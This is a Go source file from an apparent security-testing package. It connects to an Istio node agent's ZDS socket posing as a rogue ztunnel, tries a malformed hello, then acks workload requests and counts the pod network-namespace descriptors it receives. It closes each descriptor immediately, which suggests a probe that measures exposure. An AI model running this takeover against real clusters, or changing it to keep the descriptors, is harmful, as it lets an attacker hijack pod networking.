//go:build linux

package attack

import (
	"errors"
	"fmt"
	"net"
	"os"
	"time"

	"golang.org/x/sys/unix"
	"google.golang.org/protobuf/proto"
	"istio.io/istio/pkg/zdsapi"
)

// ZDSResult is what a rogue ztunnel got from a node's agent.
type ZDSResult struct {
	// BadHello is what became of the connection that sent a malformed
	// hello: "closed" when the agent hung up within the wait, else "open".
	BadHello string `json:"badHello"`
	// Connections counts the connections that sent a valid hello.
	Connections int `json:"connections"`
	// Requests counts the WorkloadRequests received (all acked as ztunnel
	// would), FDs the network namespace descriptors among them: each one is
	// a pod's netns handed to the attacker.
	Requests int `json:"requests"`
	FDs      int `json:"fds"`
	// Errors lists how the valid-hello connections ended.
	Errors []string `json:"errors,omitempty"`
}

// ZDSTakeover connects to the agent's ZDS socket at path as a rogue
// ztunnel: first a malformed hello (it waits up to 2s for the agent to hang
// up), then, for hold, connections with a valid V1 hello that ack every
// request as ztunnel does, reconnecting when the agent hangs up (at most
// maxConns connections). Every descriptor received is closed at once.
func ZDSTakeover(path string, hold time.Duration, maxConns int) (ZDSResult, error) {
	var res ZDSResult
	bad, err := dialZDS(path)
	if err != nil {
		return res, err
	}
	res.BadHello = "open"
	if err := sendPacket(bad, []byte("\xff\xff\xffnot a hello")); err != nil {
		res.BadHello = "closed"
	} else if closedWithin(bad, 2*time.Second) {
		res.BadHello = "closed"
	}
	bad.Close()

	hello, err := proto.Marshal(&zdsapi.ZdsHello{Version: zdsapi.Version_V1})
	if err != nil {
		return res, err
	}
	ack, err := proto.Marshal(&zdsapi.WorkloadResponse{Payload: &zdsapi.WorkloadResponse_Ack{Ack: &zdsapi.Ack{}}})
	if err != nil {
		return res, err
	}
	end := time.Now().Add(hold)
	for time.Now().Before(end) && res.Connections < maxConns {
		c, err := dialZDS(path)
		if err != nil {
			res.Errors = append(res.Errors, err.Error())
			time.Sleep(50 * time.Millisecond) // the agent may be between listeners; bounded by hold
			continue
		}
		res.Connections++
		err = serveRogue(c, hello, ack, end, &res)
		c.Close()
		res.Errors = append(res.Errors, err.Error())
	}
	return res, nil
}

// serveRogue sends hello on c and acks requests until end or an error.
func serveRogue(c *net.UnixConn, hello, ack []byte, end time.Time, res *ZDSResult) error {
	if err := sendPacket(c, hello); err != nil {
		return fmt.Errorf("sending hello: %w", err)
	}
	c.SetDeadline(end)
	buf := make([]byte, 8192)
	oob := make([]byte, unix.CmsgSpace(16*4))
	for {
		n, oobn, _, _, err := c.ReadMsgUnix(buf, oob)
		if oobn > 0 {
			res.FDs += closeRights(oob[:oobn])
		}
		if err != nil {
			return fmt.Errorf("reading: %w", err)
		}
		if n == 0 && oobn == 0 {
			return errors.New("agent hung up")
		}
		res.Requests++
		if err := sendPacket(c, ack); err != nil {
			return fmt.Errorf("acking: %w", err)
		}
	}
}

func dialZDS(path string) (*net.UnixConn, error) {
	c, err := net.DialTimeout("unixpacket", path, 2*time.Second)
	if err != nil {
		return nil, fmt.Errorf("connecting to ZDS socket %s: %w", path, err)
	}
	return c.(*net.UnixConn), nil
}

func sendPacket(c *net.UnixConn, b []byte) error {
	c.SetWriteDeadline(time.Now().Add(2 * time.Second))
	_, _, err := c.WriteMsgUnix(b, nil, nil)
	return err
}

// closedWithin reports whether the peer hung up on c within d (anything it
// sends meanwhile is read and dropped; descriptors are closed).
func closedWithin(c *net.UnixConn, d time.Duration) bool {
	c.SetReadDeadline(time.Now().Add(d))
	buf := make([]byte, 8192)
	oob := make([]byte, unix.CmsgSpace(16*4))
	for {
		n, oobn, _, _, err := c.ReadMsgUnix(buf, oob)
		if oobn > 0 {
			closeRights(oob[:oobn])
		}
		if err != nil {
			var ne net.Error
			return !(errors.As(err, &ne) && ne.Timeout())
		}
		if n == 0 && oobn == 0 {
			return true
		}
	}
}

// closeRights closes every descriptor of SCM_RIGHTS messages in oob and
// returns how many there were.
func closeRights(oob []byte) int {
	msgs, err := unix.ParseSocketControlMessage(oob)
	if err != nil {
		return 0
	}
	n := 0
	for _, m := range msgs {
		fds, err := unix.ParseUnixRights(&m)
		if err != nil {
			continue
		}
		for _, fd := range fds {
			os.NewFile(uintptr(fd), "received").Close()
			n++
		}
	}
	return n
}
